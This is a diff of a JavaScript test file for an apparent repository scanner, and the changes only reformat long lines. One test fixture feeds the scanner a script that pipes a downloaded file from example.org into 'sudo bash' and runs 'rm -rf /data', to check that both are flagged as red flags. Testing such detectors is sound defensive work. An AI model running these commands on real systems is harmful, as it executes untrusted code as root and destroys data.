@@ -15,7 +15,10 @@ describe('hardware', () => {
   });
 
   it('is multi-gpu when the README starts it that way', () => {
-    const map = mapFiles({ ...program('torch.distributed.init_process_group()'), 'README.md': '    torchrun --nproc_per_node=4 train.py\n' });
+    const map = mapFiles({
+      ...program('torch.distributed.init_process_group()'),
+      'README.md': '    torchrun --nproc_per_node=4 train.py\n',
+    });
     expect(map.hardware.class).toBe('multi-gpu');
     expect(map.hardware.reasons[0]).toBe('started with torchrun (README.md:1)');
   });
@@ -42,6 +45,10 @@ describe('red flags', () => {
 
   it('reads scripts too', () => {
     const map = mapFiles({ ...program(''), 'get.sh': 'curl https://example.org/i.sh | sudo bash\nrm -rf /data\n', 'k.cu': '' });
-    expect(map.redFlags.map((flag) => flag.what)).toEqual(['Runs code that it downloads', 'Asks for root or deletes folders', 'Ships CUDA source that must be compiled']);
+    expect(map.redFlags.map((flag) => flag.what)).toEqual([
+      'Runs code that it downloads',
+      'Asks for root or deletes folders',
+      'Ships CUDA source that must be compiled',
+    ]);
   });
 });
